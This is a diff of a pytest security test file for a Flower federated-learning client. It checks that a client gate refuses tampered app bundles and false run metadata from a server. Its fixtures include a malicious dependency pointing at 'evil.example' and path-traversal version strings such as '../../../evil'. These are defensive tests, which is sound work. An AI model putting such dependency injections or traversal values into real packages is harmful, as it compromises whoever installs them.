@@ -3,8 +3,7 @@
 from __future__ import annotations
 
 import hashlib
-import zipfile
-from io import BytesIO
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -15,117 +14,191 @@ from flwr.clientapp import ClientApp
 from flwr.common.constant import ErrorCode
 
 from client.app import app, enrol
-from client.gate.approval_app import describe_app, read_app
+from client.gate import approvals
+from common.flower.app import FlowerApp, installed_app
+from common.masking import identity
 from common.messages.codec import decode
 from common.messages.exchanges import EnrolReply, EnrolRequest, Problem, SumRequest
 from common.study.model import Study
-from common.utils.app_file import RELEASE
+from tests.attacks.egress.bundling import bundle
 
 
-def test_one_comment_more_is_another_app(fab: bytes, changed_fab: bytes) -> None:
-    assert hashlib.sha256(fab).digest() != hashlib.sha256(changed_fab).digest()
+def with_code() -> bytes:
+    """The release's app and one file more, which would take the place of a module."""
+    return bundle({**installed_app().files, "client/app.py": b"print('anything')\n"})
 
 
-def test_building_again_gives_the_same_app(app_folder: Path, fab: bytes) -> None:
-    import shutil
-    import subprocess
-    import sys
-
-    again = app_folder.parent / "again" / "fedlnm"
-    shutil.copytree(app_folder, again)
-    program = Path(sys.executable).with_name("flwr")
-    subprocess.run([program, "build", "--app", again], cwd=again, check=True, capture_output=True)
-    (made,) = again.glob("*.fab")
-    assert made.read_bytes() == fab
+def with_another_component() -> bytes:
+    """The release's two files, but another object of another module is to be the ClientApp."""
+    files = installed_app().files
+    config = files["pyproject.toml"].replace(b'"client.app:app"', b'"antigravity:app"')
+    return bundle({**files, "pyproject.toml": config})
 
 
-def test_an_app_that_runs_other_code_beside_the_releases_files_is_not_called_the_release(
-    fab: bytes, tmp_path: Path
+def with_a_dependency() -> bytes:
+    """The release's two files, but something is to be installed."""
+    files = installed_app().files
+    config = files["pyproject.toml"].replace(
+        b'["flwr', b'["evil @ https://evil.example/x.whl", "flwr'
+    )
+    return bundle({**files, "pyproject.toml": config})
+
+
+def with_bytes_behind() -> bytes:
+    """The release's app to the byte, and more after its end."""
+    return installed_app().content + b"\x00"
+
+
+CHANGED = [with_code, with_another_component, with_a_dependency, with_bytes_behind]
+
+
+@pytest.mark.parametrize("changed", CHANGED[:3])
+def test_flower_itself_would_install_a_changed_app(
+    changed: Callable[[], bytes], tmp_path: Path
 ) -> None:
-    """The component and a library are the server's own; no file of the release is changed."""
-    with zipfile.ZipFile(BytesIO(fab)) as archive:
-        files = {name: archive.read(name) for name in archive.namelist()}
-    config = files["pyproject.toml"]
-    files["pyproject.toml"] = config.replace(b'"client.app:app"', b'"evil:app"')
-    files["evil.py"] = b"print('anything')\nfrom client.app import app\n"
-    files["numpy/__init__.py"] = b""
-    entries = {n: hashlib.sha256(data).hexdigest() for n, data in files.items() if n[0] != "."}
-    lines = [f"{name},{digest},{len(files[name]) * 8}" for name, digest in entries.items()]
-    files[".info/CONTENT"] = "\n".join(lines).encode()
-    path = tmp_path / "fedlnm.fab"
-    with zipfile.ZipFile(path, "w") as archive:
-        for name, data in files.items():
-            archive.writestr(name, data)
-    installed = install_from_fab(path.read_bytes(), tmp_path / "flower", skip_prompt=True)
-    assert (installed / "evil.py").is_file(), "Flower takes it"
-    told = "\n".join(describe_app(read_app(path), RELEASE))
-    assert "it is NOT the release installed here" in told
-    assert "evil.py: not in this release" in told
-    assert "numpy/__init__.py: not in this release" in told
-    assert "pyproject.toml: changed (tool.flwr.app.components.clientapp)" in told
+    assert install_from_fab(changed(), tmp_path, skip_prompt=True).is_dir()
 
 
-def test_the_release_itself_is_called_so(fab: bytes, tmp_path: Path) -> None:
-    (tmp_path / "fedlnm.fab").write_bytes(fab)
-    told = "\n".join(describe_app(read_app(tmp_path / "fedlnm.fab"), RELEASE))
-    assert "it is that of the release installed here" in told
+def handed_over(node: Any, monkeypatch: pytest.MonkeyPatch, content: bytes, **said: str) -> None:
+    """The server hands over these bytes, and says of the run what is not true."""
+    honest = node._run
+
+    def run(run_id: int) -> Any:
+        told = honest(run_id)
+        for name, value in said.items():
+            setattr(told, name, value)
+        return told
+
+    node.fab = content
+    monkeypatch.setattr(node, "_run", run)
 
 
 def test_without_the_gate_a_changed_app_runs(
-    approved_node: Any, changed_fab: bytes, enrolment: EnrolRequest
+    approved_node: Any, enrolment: EnrolRequest, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    approved_node.fab = changed_fab
+    fab = with_code()
+    handed_over(approved_node, monkeypatch, fab, fab_hash=hashlib.sha256(fab).hexdigest())
     approved_node.ask("query.enrol", enrolment, app)
     assert approved_node.ran == ["query.enrol"]
 
 
+@pytest.mark.parametrize("changed", CHANGED)
 def test_a_changed_app_does_not_run(
-    approved_node: Any, gated: Any, changed_fab: bytes, enrolment: EnrolRequest, gate_log: Any
-) -> None:
-    gated()
-    approved_node.fab = changed_fab
-    reply = approved_node.ask("query.enrol", enrolment, app)
-    assert approved_node.ran == []
-    assert decode(reply.content).kind == "app_not_approved"
-    assert "app_not_approved" in gate_log()
-
-
-def test_a_changed_app_under_the_approved_apps_name_does_not_run(
+    changed: Callable[[], bytes],
     approved_node: Any,
     gated: Any,
-    fab: bytes,
-    changed_fab: bytes,
     enrolment: EnrolRequest,
+    gate_log: Any,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    """The server states the approved digest and then hands over other bytes."""
-    honest = approved_node._run(1)
-    monkeypatch.setattr(approved_node, "_run", lambda run_id: honest)
-    approved_node.fab = changed_fab
+    fab = changed()
+    handed_over(approved_node, monkeypatch, fab, fab_hash=hashlib.sha256(fab).hexdigest())
+    gated()
+    reply = approved_node.ask("query.enrol", enrolment, app)
+    assert approved_node.ran == []
+    assert decode(reply.content).kind == "other_release"
+    assert "other_release" in gate_log()
+
+
+@pytest.mark.parametrize("changed", CHANGED)
+def test_a_changed_app_under_the_releases_own_name_does_not_run(
+    changed: Callable[[], bytes],
+    approved_node: Any,
+    gated: Any,
+    enrolment: EnrolRequest,
+    gate_log: Any,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The server states the right digest and then hands over other bytes."""
+    handed_over(approved_node, monkeypatch, changed())
     gated()
     reply = approved_node.ask("query.enrol", enrolment, app)
     assert approved_node.ran == []
     assert reply.error.code == ErrorCode.INVALID_FAB
+    assert "handed over another app" in gate_log()
 
 
-def test_the_approved_app_runs(approved_node: Any, gated: Any, enrolment: EnrolRequest) -> None:
+def test_a_run_that_changes_between_two_questions_is_the_one_that_was_judged(
+    approved_node: Any, gated: Any, enrolment: EnrolRequest, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Flower asks for the run again: the server could then name another folder of apps."""
+    asked: list[int] = []
+    honest = approved_node._run
+
+    def run(run_id: int) -> Any:
+        asked.append(run_id)
+        told = honest(run_id)
+        if len(asked) > 1:
+            told.fab_version = f"{told.fab_version}/../../../evil"
+        return told
+
+    monkeypatch.setattr(approved_node, "_run", run)
+    gated()
+    approved_node.ask("query.enrol", enrolment, app)
+    assert approved_node.state.get_run(1).fab_version == installed_app().version
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("fab_id", "fedlnm/other"),
+        ("fab_version", "0.1.0/../../../evil"),
+        ("fab_hash", "0" * 64),
+        ("run_id", 2),
+        ("primary_task_type", "flwr-agentapp"),
+        ("primary_task_type", "flwr-simulation"),
+    ],
+)
+def test_a_run_of_which_the_server_says_anything_else_does_not_run(
+    field: str,
+    value: Any,
+    approved_node: Any,
+    gated: Any,
+    enrolment: EnrolRequest,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    handed_over(approved_node, monkeypatch, installed_app().content, **{field: value})
+    gated()
+    reply = approved_node.ask("query.enrol", enrolment, app)
+    assert approved_node.ran == []
+    assert decode(reply.content).kind == "other_release"
+
+
+def test_the_app_of_another_release_is_refused_and_the_site_reads_which(
+    approved_node: Any,
+    gated: Any,
+    enrolment: EnrolRequest,
+    gate_log: Any,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    other = FlowerApp("9.9.9")
+    said = {"fab_version": other.version, "fab_hash": other.digest}
+    handed_over(approved_node, monkeypatch, other.content, **said)
+    gated()
+    reply = approved_node.ask("query.enrol", enrolment, app)
+    assert approved_node.ran == []
+    assert decode(reply.content).kind == "other_release"
+    assert "'9.9.9'" in gate_log()
+    assert f"installed, fedlnm/fedlnm {installed_app().version}" in gate_log()
+
+
+def test_the_releases_own_app_runs_without_anybodys_approval(
+    approved_node: Any, gated: Any, enrolment: EnrolRequest
+) -> None:
     gated()
     reply = approved_node.ask("query.enrol", enrolment, app)
     assert isinstance(decode(reply.content), EnrolReply)
 
 
-def test_revoking_an_app_holds_within_a_run(
-    approved_node: Any, gated: Any, settings: Any, fab: bytes, enrolment: EnrolRequest
+def test_revoking_a_study_holds_within_a_run(
+    approved_node: Any, gated: Any, settings: Any, study: Study, enrolment: EnrolRequest
 ) -> None:
-    from client.gate import approvals
-    from common.masking import identity
-
     gated()
     approved_node.ask("query.enrol", enrolment, app)
     private = identity.load(settings.identity).private
-    approvals.revoke(settings.work, private, hashlib.sha256(fab).hexdigest())
+    approvals.revoke(settings.work, private, study.digest())
     reply = approved_node.ask("query.enrol", enrolment, app)
-    assert decode(reply.content).kind == "app_not_approved"
+    assert decode(reply.content).kind == "study_not_approved"
     assert approved_node.ran == ["query.enrol"]
 
 
